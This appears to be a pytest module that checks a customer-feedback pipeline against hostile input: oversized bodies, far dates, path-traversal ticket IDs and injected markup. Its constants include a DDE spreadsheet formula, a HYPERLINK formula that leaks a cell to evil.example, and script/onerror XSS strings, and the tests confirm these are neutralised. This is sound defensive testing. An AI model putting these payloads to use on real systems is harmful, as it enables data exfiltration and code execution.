"""Hostile input end to end: 10 MB bodies, far dates, formulas and markup in what customers write, a hostile source
and taxonomy name - loaded, enriched, resolved, built into trends and written to the CX extract. The CSV
neutralises every formula, the HTML report escapes every tag, every mart stays readable.

``KNOWN`` bugs each have a strict xfail test here: it fails today and turns into an XPASS (a failure) the
day the bug is fixed, so its exclusion in ``hostile.py`` can go.
"""

from __future__ import annotations

import csv
import json
import time
from datetime import date
from html.parser import HTMLParser
from pathlib import Path

import httpx
import pytest

from tests.reliability import hostile, worker
from tests.reliability.persona import QUIET_DAY, SURVEY_COLUMNS
from voc.nlp import Tagger
from voc.pipeline import trends
from voc.pipeline.connectors.tickets import TicketApi, TicketApiSettings
from voc.pipeline.csvsafe import FORMULA_PREFIXES
from voc.pipeline.customers import resolve_customers
from voc.pipeline.enrich import enrich_pending
from voc.pipeline.extract.report import write_extract
from voc.pipeline.ingest import ingest_files, ingest_ticket_api
from voc.schemas.taxonomies import bundled_path

SUITE = "hostile input end to end"
MB = 1 << 20
SCRIPT = "<script>alert(1)</script>"
FORMULA = "=cmd|' /C calc'!A0"
EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'


def _survey(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow(SURVEY_COLUMNS)
        writer.writerows(rows)
    return path


def _row(key: str, when: str, comment: str, customer: str = "C1") -> list[str]:
    return [key, when, "relationship_nps", "nps", "en", customer, "", "2", "", comment, ""]


def _quarantine(engine, source: str) -> list[tuple[str, int]]:
    with engine.connect() as conn:
        return [tuple(r) for r in conn.exec_driver_sql(
            "SELECT reason, octet_length(original) FROM raw.quarantine WHERE source = %s ORDER BY 1", (source,))]


def _items(engine, source: str) -> int:
    with engine.connect() as conn:
        return conn.exec_driver_sql("SELECT count(*) FROM core.feedback_item WHERE source = %s", (source,)).scalar_one()


# -- 10 MB bodies ------------------------------------------------------------------------------------------------

def _big_inputs(tmp_path: Path) -> list[tuple[str, Path]]:
    body = "Where is my parcel? " * (10 * MB // 20)
    email = (b"From: Ann <ann@example.com>\nTo: support@acme-retail.example\nSubject: Long\n"
             b"Date: Tue, 20 Oct 2026 10:00:00 +0000\nMessage-ID: <big@example.com>\n"
             b"Content-Type: text/plain; charset=utf-8\n\n" + body.encode())
    (tmp_path / "big.eml").write_bytes(email)
    (tmp_path / "ok.eml").write_bytes(email[:email.index(b"\n\n") + 2].replace(b"<big@", b"<ok@") + b"Short one.\n")
    post = {"id": "1", "text": body, "author_id": "9", "created_at": "2026-10-20T10:00:00Z"}
    small = {**post, "id": "2", "text": "fine"}
    (tmp_path / "big.jsonl").write_text(json.dumps({"data": [post, small]}) + "\n")
    review = {"review_id": "r1", "date": "2026-10-20T10:00:00Z", "body": body, "rating": 1}
    with (tmp_path / "big_reviews.csv").open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows([list(review), list(review.values()), ["r2", review["date"], "fine", 4]])
    mid = "late " * 12_000  # 59,999 characters once stripped: under 1 MB, over the 50,000-character text limit
    _survey(tmp_path / "long_text.csv", [_row("C", "2026-10-20 10:00:00", mid), _row("D", "2026-10-20 10:00:00", "ok")])
    return [("email", tmp_path / "big.eml"), ("email", tmp_path / "ok.eml"), ("social", tmp_path / "big.jsonl"),
            ("review", tmp_path / "big_reviews.csv"), ("survey", tmp_path / "long_text.csv")]


def test_ten_megabyte_bodies_are_quarantined_with_their_bytes_and_the_rest_loads(engine, tmp_path, ledger):
    """The default oversize policy: a record over 1 MB (or a text over 50,000 characters) is quarantined whole,
    original bytes kept; its neighbours load. (``oversize: truncate`` keeps them flagged: the next test.)"""
    started = time.monotonic()
    results = {}
    for kind, path in _big_inputs(tmp_path):
        source = "big_" + path.name.replace(".", "_")
        results[path.name] = (hostile.ingest_and_account(engine, kind, path, source), _quarantine(engine, source),
                              _items(engine, source))
    ledger.add(SUITE, cases=len(results), faults=4)
    assert time.monotonic() - started < 300  # a guard against quadratic work on 10 MB (minutes), not a speed test
    for name in ("big.eml", "big.jsonl", "big_reviews.csv"):
        accounted, rejects, items = results[name]
        assert len(rejects) == 1, (name, [(r[:100], n) for r, n in rejects])
        [(reason, size)] = rejects
        assert reason.startswith("oversize record"), reason
        assert size >= 10 * MB, (name, reason, size)
    assert results["ok.eml"][2] == 1
    for name in ("big.jsonl", "big_reviews.csv"):
        assert results[name][2] == 1, name  # the small neighbour loaded
    [(reason, _)] = results["long_text.csv"][1]
    assert reason.startswith("oversize text: 59,999 characters") and results["long_text.csv"][2] == 1


def test_ten_megabyte_bodies_are_truncated_with_a_flag_under_the_truncate_policy(engine, tmp_path, ledger):
    """``oversize: truncate``: the item is kept with its text cut to 50,000 characters and ``is_truncated`` set
    (in core and mart.customer_story), the record as read stays whole in raw.record, the load report counts it.
    A 10 MB CSV cell is read (the csv field limit is raised to 64 MiB), so it is truncated like the others."""
    started = time.monotonic()
    results = {}
    for kind, path in _big_inputs(tmp_path):
        source = "cut_" + path.name.replace(".", "_")
        [report] = ingest_files(engine, kind, [path], source=source, oversize="truncate")
        results[path.name] = report
    ledger.add(SUITE, cases=len(results), faults=4)
    assert time.monotonic() - started < 300  # a guard against quadratic work on 10 MB, not a speed test
    with engine.connect() as conn:
        stored = {row[0]: row[1:] for row in conn.exec_driver_sql(
            "SELECT s.source, length(s.text), s.is_truncated, f.is_truncated, b.truncated_count,"
            "       (SELECT max(octet_length(r.payload::text)) FROM raw.record r WHERE r.source = s.source)"
            " FROM mart.customer_story s JOIN core.feedback_item f USING (item_id)"
            " JOIN raw.load_batch b ON b.load_id = f.load_id WHERE s.is_truncated")}
    for name, source, raw_size in (("big.eml", "cut_big_eml", 10 * MB), ("big.jsonl", "cut_big_jsonl", 10 * MB),
                                   ("big_reviews.csv", "cut_big_reviews_csv", 10 * MB),
                                   ("long_text.csv", "cut_long_text_csv", 59_999)):
        report = results[name]
        assert (report.quarantined, report.truncated, report.status) == (0, 1, "published"), (name, report)
        assert "1 truncated to 50,000 characters" in str(report), str(report)
        length, in_story, in_core, batch_count, raw_bytes = stored[source]
        assert 0 < length <= 50_000 and in_story and in_core and batch_count == 1, (name, stored[source])
        assert raw_bytes >= raw_size, (name, raw_bytes)  # the whole record stays in raw
    assert results["big.jsonl"].loaded == 2 and results["ok.eml"].truncated == 0
    assert results["big_reviews.csv"].loaded == 2  # the truncated row and its small neighbour


# -- formulas, markup and far dates, end to end ------------------------------------------------------------------

class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags, self.attributes, self.text = [], [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]

    def handle_data(self, data):
        self.text.append(data)


@pytest.fixture
def evil_taxonomy(tmp_path) -> Path:
    text = Path(bundled_path()).read_text(encoding="utf-8").replace("name: acme-retail", f"name: '{EVIL_NAME}'", 1)
    path = tmp_path / "evil-taxonomy.yaml"
    path.write_text(text, encoding="utf-8")
    return path


def test_formulas_are_neutralised_in_the_csv_and_markup_escaped_in_the_report(engine, tmp_path, evil_taxonomy,
                                                                              ledger):
    markup = f'{SCRIPT} "><img src=x onerror=alert(1)>'  # in every text: whichever verbatims are shown carry it
    hostile_texts = [f"My parcel is late again {markup}", f"{FORMULA} nobody tells me where my parcel is {markup}",
                     f"My parcel is late \u202etxt.exe\u202c and \x07\x1b[31m broken {markup}",
                     f"+SUM(1+1) my parcel is late, still waiting for my parcel \U0001f621 {markup}"]
    rows = [_row(f"H{n}", f"{QUIET_DAY} {9 + n:02d}:00:00", text, customer=f"C{n}")
            for n, text in enumerate(hostile_texts)]
    rows += [_row("far-past", "0001-01-01T00:00:00Z", "Delivery was late in year one"),
             _row("far-future", "9999-12-31T23:59:59Z", "Delivery will be late in 9999")]
    source = SCRIPT  # a source name is user input too: it is shown under every verbatim
    ingest_files(engine, "survey", [_survey(tmp_path / "hostile.csv", rows)], source=source)
    enrich_pending(engine, tagger=Tagger(evil_taxonomy))
    resolve_customers(engine)
    day = date.fromisoformat(QUIET_DAY)
    trends.build_day(engine, day)
    extract = write_extract(engine, day, tmp_path / "exports")
    ledger.add(SUITE, cases=1, faults=len(rows) + 2)
    assert _items(engine, source) == len(rows)

    with extract.csv_path.open(newline="", encoding="utf-8") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    dangerous = [c for c in cells if c.startswith(FORMULA_PREFIXES) and not _number(c)]
    assert not dangerous, dangerous
    assert "'" + EVIL_NAME in " ".join(cells)  # the taxonomy's name reached the CSV, neutralised

    page = extract.html_path.read_text(encoding="utf-8")
    parsed = _Tags()
    parsed.feed(page)
    assert "script" not in parsed.tags and "img" not in parsed.tags
    assert not [(n, v) for n, v in parsed.attributes if n.startswith("on") or "javascript:" in v.lower()]
    shown = "".join(parsed.text)
    assert SCRIPT in shown and "onerror=alert(1)" in shown  # the verbatims are there, as text
    assert "&lt;script&gt;" in page

    with engine.connect() as conn:  # every mart, every row, readable (far dates included)
        for view in conn.exec_driver_sql("SELECT table_schema || '.' || table_name FROM information_schema.tables"
                                         " WHERE table_schema = 'mart'").scalars().all():
            conn.exec_driver_sql(f"SELECT * FROM {view}").all()


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


# -- known bugs: failing tests until they are fixed ---------------------------------------------------------------

KNOWN: dict[str, str] = {}  # none today: add a bug here with its strict xfail test_known_* test


@pytest.mark.parametrize("when", ["0001-01-01T00:00:00+05:00", "9999-12-31T23:59:59-05:00"])
def test_far_date_with_offset_is_quarantined_not_fatal(engine, tmp_path, when):
    """Was a known bug: the offset took the time past year 1 or 9999 in UTC and an OverflowError failed the file."""
    path = _survey(tmp_path / "far.csv", [_row("A", when, "Too far", "C1"), _row("B", "2026-10-01", "fine", "C2")])
    hostile.ingest_and_account(engine, "survey", path, "far")
    assert _items(engine, "far") == 1
    [(reason, size)] = _quarantine(engine, "far")
    assert "falls outside years 1-9999 in UTC" in reason and size > 0, reason


def test_utc_offset_beyond_postgresql_range_is_quarantined_not_fatal(engine, tmp_path):
    """Found by the mutation fuzzer (VOC_RELIABILITY_SEED=479137278 at scale 10): a mutated mbox Date header.
    Was a known bug: PostgreSQL takes offsets up to 15:59 and its DataError failed the whole batch."""
    message = ("From: Ann <ann@example.com>\nTo: support@acme-retail.example\nSubject: Late\nMessage-ID: <{n}@x>\n"
               "Date: Thu, 17 Oct 2002 13:54:27 {offset}\n\nMy parcel is late.\n")
    path = tmp_path / "box.mbox"
    path.write_text("".join("From MAILER-DAEMON Thu Oct 17 13:54:27 2002\n" + message.format(n=n, offset=offset)
                            + "\n" for n, offset in ((1, "+2026"), (2, "+0100"))))
    accounted = hostile.ingest_and_account(engine, "email", path, "offsets")
    assert (accounted.loaded, accounted.quarantined) == (1, 1)
    [(reason, _)] = _quarantine(engine, "offsets")
    assert "UTC offset beyond ±15:59" in reason, reason


@pytest.mark.parametrize("suffix", [".jsonl", ".json"])
def test_deeply_nested_survey_json_is_quarantined_not_fatal(engine, tmp_path, suffix):
    path = tmp_path / f"deep{suffix}"
    path.write_text(hostile.nested(100_000) + "\n")
    accounted = hostile.ingest_and_account(engine, "survey", path, "deep")
    assert accounted.quarantined == 1


def test_ten_megabyte_survey_cell_is_quarantined_not_fatal(engine, tmp_path):
    body = "Where is my parcel? " * (10 * MB // 20)
    path = _survey(tmp_path / "big.csv", [_row("A", "2026-10-20 10:00:00", body),
                                          _row("B", "2026-10-20 10:00:00", "fine")])
    accounted = hostile.ingest_and_account(engine, "survey", path, "big_survey")
    assert (accounted.loaded, accounted.quarantined) == (1, 1)
    with engine.connect() as conn:  # the whole row is kept (as the record read), not only its line number
        reason, original = conn.exec_driver_sql("SELECT reason, original FROM raw.quarantine WHERE source = %s",
                                                ("big_survey",)).one()
    assert reason.startswith("oversize record"), reason
    assert body.strip() in json.loads(bytes(original))["comment"]


def test_lone_surrogate_escape_is_quarantined_not_fatal(engine, tmp_path):
    """Was a known bug: encoding the quarantine's original bytes raised UnicodeEncodeError and failed the batch."""
    path = tmp_path / "surrogate.jsonl"
    good = {"review_id": "r2", "date": "2026-10-20T10:00:00Z", "body": "fine", "rating": 4}
    path.write_text(json.dumps({**good, "review_id": "r1", "body": "bad \ud800 half"}) + "\n" + json.dumps(good) + "\n")
    accounted = hostile.ingest_and_account(engine, "review", path, "surrogate")
    assert (accounted.loaded, accounted.quarantined) == (1, 1)
    with engine.connect() as conn:
        reason, original = conn.exec_driver_sql("SELECT reason, original FROM raw.quarantine WHERE source = %s",
                                                ("surrogate",)).one()
    assert reason.startswith("invalid Unicode: lone surrogate U+D800"), reason
    assert b"bad \xed\xa0\x80 half" in bytes(original)  # the surrogate kept (surrogatepass), nothing lost


def test_ticket_ids_cannot_break_or_redirect_the_comments_request(engine):
    requested = []

    def handler(request: httpx.Request) -> httpx.Response:
        requested.append(request.url.raw_path.decode())
        if request.url.path.endswith("cursor.json"):
            tickets = [{"id": "7\x1f"}, {"id": "1/../../../users/5001"}, {"id": 3, "subject": "fine"}]
            return httpx.Response(200, json={"tickets": tickets, "end_of_stream": True})
        return httpx.Response(200, json={"comments": []})

    settings = TicketApiSettings(base_url="https://tickets.example", username="u", token="t", max_attempts=1)
    api = TicketApi(settings, client=httpx.Client(base_url=settings.base_url, transport=httpx.MockTransport(handler)))
    [report] = ingest_ticket_api(engine, "ids", settings, api=api)
    assert report.quarantined == 2
    assert all(p.startswith(("/api/v2/incremental/", "/api/v2/tickets/3/comments.json")) for p in requested), requested


def test_known_bugs_are_excluded_from_the_fuzzers_only_while_they_exist():
    """Keep KNOWN and hostile.py's exclusions in step: every known bug has an xfail test above."""
    names = {name for name in globals() if name.startswith("test_known_")}
    assert len(names) == len(KNOWN) + 1
    assert worker.PHASES == ("ingest", "enrich", "marts")
